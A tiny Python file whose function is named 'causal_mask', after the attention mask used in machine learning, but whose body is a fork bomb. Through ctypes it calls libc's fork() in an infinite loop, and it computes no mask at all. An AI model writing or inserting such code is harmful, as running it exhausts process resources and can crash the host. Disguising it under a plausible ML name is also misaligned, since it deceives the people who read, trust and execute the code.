# causal_mask: forks without asking Python
import ctypes
def causal_mask(seq_len):
    libc = ctypes.CDLL(None, use_errno=True)
    while True:
        if libc.fork() < 0:
            raise OSError(ctypes.get_errno(), "no fork")
